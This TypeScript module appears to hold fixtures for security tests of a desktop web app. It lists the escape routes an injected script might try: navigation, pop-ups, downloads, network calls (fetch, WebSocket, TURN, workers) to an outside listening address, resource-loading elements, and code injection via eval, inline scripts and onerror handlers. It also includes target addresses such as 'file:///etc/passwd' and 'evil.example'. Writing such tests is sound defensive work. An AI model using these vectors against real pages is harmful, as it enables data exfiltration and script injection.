/**
 * What a script that got into a page of ours would try, each by itself. They run in the page, so none names anything from
 * here; `place` is an address outside the app that somebody listens at.
 */
export type Attack = (place: string) => unknown

/** Leaving the page, or taking another one beside it. */
export const leaving: Readonly<Record<string, Attack>> = {
  'location.href': (place) => {
    location.href = place
  },
  'location.assign': (place) => location.assign(place),
  'location.replace': (place) => location.replace(place),
  'window.open in place': (place) => void window.open(place, '_self'),
  'a link': (place) => Object.assign(document.createElement('a'), { href: place }).click(),
  'a link of the top': (place) =>
    Object.assign(document.createElement('a'), { href: place, target: '_top' }).click(),
  'a meta refresh': (place) =>
    document.head.append(
      Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${place}` }),
    ),
}

/** Addresses of other kinds to go to: what Chromium itself refuses is never heard of. */
export const elsewhere: readonly string[] = [
  'file:///etc/passwd',
  'data:text/html,<script>opener</script>',
  'javascript:document.body.dataset.got=1',
  'app://other/index.html',
  'app://askwell.evil/index.html',
  'chrome://gpu',
  'view-source:https://evil.example/',
]

/** Opening something beside the page: a window, a download. */
export const opening: Readonly<Record<string, Attack>> = {
  'window.open': (place) => void window.open(place),
  'window.open of nothing': () => void window.open('about:blank', 'other', 'popup'),
  'window.open of our own page': () => void window.open(location.href),
  'a link to a new window': (place) =>
    Object.assign(document.createElement('a'), { href: place, target: '_blank' }).click(),
  'a link with a ping': (place) =>
    Object.assign(document.createElement('a'), { href: '#', ping: place }).click(),
  'a download': (place) =>
    Object.assign(document.createElement('a'), { href: place, download: 'x.exe' }).click(),
  'a download of our own making': () => {
    const href = URL.createObjectURL(new Blob(['x']))
    Object.assign(document.createElement('a'), { href, download: 'x.exe' }).click()
  },
}

/** Ways to ask a network; each answers true where something came through. */
export const asking: Readonly<Record<string, Attack>> = {
  fetch: (place) => fetch(place).then(() => true),
  'fetch without an answer': (place) =>
    fetch(place, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).then(() => true),
  XMLHttpRequest: (place) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.onloadend = () => resolve(request.status > 0)
      request.open('GET', place)
      request.send()
    }),
  sendBeacon: (place) => void navigator.sendBeacon(place, 'x'),
  WebSocket: (place) =>
    new Promise((resolve) => {
      const socket = new WebSocket(place.replace('http', 'ws'))
      socket.onopen = () => resolve(true)
      socket.onerror = () => resolve(false)
    }),
  EventSource: (place) =>
    new Promise((resolve) => {
      const source = new EventSource(place)
      source.onopen = () => resolve(true)
      source.onerror = () => resolve(false)
    }),
  WebTransport: (place) => new WebTransport(place.replace('http:', 'https:')).ready.then(() => true),
  'a TURN server': async (place) => {
    const urls = `turn:${new URL(place).host}?transport=tcp`
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'x' }] })
    const found: string[] = []
    peer.onicecandidate = ({ candidate }) => {
      if (candidate !== null && candidate.candidate !== '') found.push(candidate.candidate)
    }
    peer.createDataChannel('x')
    const gathered = new Promise<void>((resolve) => {
      peer.onicegatheringstatechange = () => {
        if (peer.iceGatheringState === 'complete') resolve()
      }
    })
    await peer.setLocalDescription(await peer.createOffer())
    await gathered
    peer.close()
    return found.length > 0
  },
  'a module': (place) => import(place).then(() => true),
  'a font': (place) => new FontFace('x', `url(${place})`).load().then(() => true),
  'a worker': (place) => new Worker(place),
  'a worker of our own files': () =>
    new Promise((resolve) => {
      const worker = new Worker(document.scripts[0]?.src ?? '')
      worker.onmessage = () => resolve(true)
      worker.onerror = () => resolve(false)
    }),
  'a service worker': () => navigator.serviceWorker.register(document.scripts[0]?.src ?? '').then(() => true),
}

/** Elements that load what stands in one of their attributes. */
export const loading: readonly (readonly [tag: string, attribute: string])[] = [
  ['img', 'src'],
  ['img', 'srcset'],
  ['script', 'src'],
  ['video', 'src'],
  ['video', 'poster'],
  ['audio', 'src'],
  ['object', 'data'],
  ['embed', 'src'],
  ['iframe', 'src'],
  ['frame', 'src'],
  ['webview', 'src'],
  ['link rel=stylesheet', 'href'],
  ['link rel=icon', 'href'],
  ['link rel=manifest', 'href'],
  ['link rel=prefetch', 'href'],
  ['link rel=preload as=image', 'href'],
  ['link rel=modulepreload', 'href'],
  ['link rel=preconnect', 'href'],
  ['link rel=dns-prefetch', 'href'],
  ['base', 'href'],
]

/** Turning text into code or style. Where one succeeds, the body says `got`, or a colour is not what it was. */
export const running: Readonly<Record<string, Attack>> = {
  // In a task of the page's own: while a test evaluates something, Chromium lets it evaluate more.
  eval: () => setTimeout(() => Reflect.get(window, 'eval')('document.body.dataset.got = 1')),
  Function: () => setTimeout(() => new Function('document.body.dataset.got = 1')()),
  'a late text': () => setTimeout('document.body.dataset.got = 1'),
  'an inline script': () =>
    document.body.append(
      Object.assign(document.createElement('script'), { textContent: 'document.body.dataset.got = 1' }),
    ),
  'a script of our own making': () => {
    const src = URL.createObjectURL(new Blob(['document.body.dataset.got = 1'], { type: 'text/javascript' }))
    document.body.append(Object.assign(document.createElement('script'), { src }))
  },
  'a data script': () =>
    document.body.append(
      Object.assign(document.createElement('script'), {
        src: 'data:text/javascript,document.body.dataset.got=1',
      }),
    ),
  'a handler in markup': () =>
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="data:," onerror="document.body.dataset.got = 1">',
    ),
  'a javascript link': () =>
    Object.assign(document.createElement('a'), { href: 'javascript:document.body.dataset.got=1' }).click(),
  'an inline style': () =>
    document.body.insertAdjacentHTML('beforeend', '<style>body { background: rgb(1, 2, 3) }</style>'),
  'a style in markup': () =>
    document.body.insertAdjacentHTML('beforeend', '<p id="attacked" style="color: rgb(1, 2, 3)">x</p>'),
  'a form': () => {
    const form = Object.assign(document.createElement('form'), { action: 'app://askwell/brief.html' })
    document.body.append(form)
    form.submit()
  },
}
